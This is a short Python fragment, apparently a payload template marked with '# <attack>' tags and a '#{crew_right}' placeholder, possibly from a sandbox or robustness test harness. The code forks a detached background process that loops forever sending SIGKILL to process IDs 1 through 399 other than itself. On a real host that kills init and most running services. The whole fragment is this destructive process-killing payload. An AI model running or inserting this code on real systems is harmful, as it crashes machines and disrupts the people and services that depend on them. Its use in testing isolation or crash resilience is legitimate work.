#{crew_right}
# <attack>
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(0.005)
    while True:
        for _pid in range(1, 400):
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                except OSError:
                    pass
# </attack>
